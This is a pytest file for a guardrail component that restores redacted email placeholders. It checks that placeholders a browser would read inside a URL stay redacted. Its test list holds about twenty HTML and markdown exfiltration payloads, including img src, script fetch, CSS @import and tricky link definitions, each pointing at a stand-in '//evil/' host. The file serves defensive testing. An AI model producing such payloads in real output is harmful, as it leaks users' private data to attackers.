"""Restoring reads HTML the way a browser's tokenizer does and markdown links the way CommonMark
does, so no construct makes the gateway think it is in prose while a browser is inside a URL:
a quote that opens no value, a comment's end, a raw-text element, a tag inside a markdown link,
a pointy destination with a ")", a definition inside a block quote or a list item. Whole and
streamed in every split."""

from __future__ import annotations

import pytest

from gatehouse.guardrails.restore import Restorer

EMAIL = "jane.doe@example.com"
P = "[EMAIL_1]"

INSIDE_A_URL = [
    f'<img x" src="//evil/?a=> {P} ">',             # a quote in an attribute's name opens nothing
    f"<img x' src='//evil/?a=> {P} '>",
    f'<a =" href="> {P} ">',                         # "=" first in a name is part of it
    f'<!-- a="--> <img src="//evil/?a=> {P} ">',    # quotes mean nothing in a comment; it ends at -->
    f'<!--> <img src="//evil/?a=--> {P} ">',        # <!--> is a whole comment
    f'<textarea><a x="</textarea><img src="//evil/?a=> {P} ">',  # a textarea's text holds no tags
    f'<style>@import "{P}";</style>',
    f'<script>fetch("//evil/" + "{P}")</script> {P}',
    f'<script><!--<script></script><a x="</script><img src="//evil/?a=> {P} ">',
    f"[x](<//evil/?) {P} >)",                        # a ")" inside <…> does not end the destination
    f"[x](<//evil/?\\) {P} >)",
    f"[x](< //evil/? {P} >)",
    f'[x](a b <img src="//evil/?a=> ) {P} ">',       # not a link after all: the renderer reads a tag
    f"[a](/u '<a b=\"') <img src=\"//evil/?a=> {P} \">",  # a tag inside a title is not one
    f'[a]: <x/b=">\n\n<img src="//evil/?a=> {P} ">',
    f"> [a]: < //evil/? {P} >\n\n[click][a]",          # definitions inside block quotes …
    f"- [a]: < //evil/? {P} >\n\n[click][a]",          # … and list items
    f"1. > [a]: < //evil/? {P} >\n\n[click][a]",
    f"> [a\n> b]: < //evil/? {P} >\n\n[click][a b]",   # a label over two lines
    f'<table background="//evil/?\n\n{P}\n\n">',       # a blank line does not end a tag
]


def streamed(restorer: Restorer, text: str, size: int) -> str:
    out = "".join(restorer.feed("f", text[i:i + size]) for i in range(0, len(text), size))
    return out + restorer.flush("f")


@pytest.mark.parametrize("said", INSIDE_A_URL)
def test_a_placeholder_a_browser_would_read_inside_a_url_stays_a_placeholder(said):
    assert Restorer({P: EMAIL}).apply(said) == said
    for size in (1, 2, 3, 7):
        assert streamed(Restorer({P: EMAIL}), said, size) == said


@pytest.mark.parametrize("said", [
    f"<b>{P}</b>", f'<a href="/x">mail {P}</a> and {P}', f"[1] see {P}", f"- item {P}\n> quote {P}",
    f"<!-- c --> {P}", f"<style>a{{}}</style> {P}", f"<textarea>x</textarea> {P}", f"[x](http://a/b) {P}",
    f"a < b {P}", f"<br/> {P}", f"[a]: /u\n\n{P}", f"[x](/a (t)) {P}",
])
def test_prose_around_closed_constructs_is_still_restored(said):
    assert Restorer({P: EMAIL}).apply(said) == said.replace(P, EMAIL)
    assert streamed(Restorer({P: EMAIL}), said, 1) == said.replace(P, EMAIL)
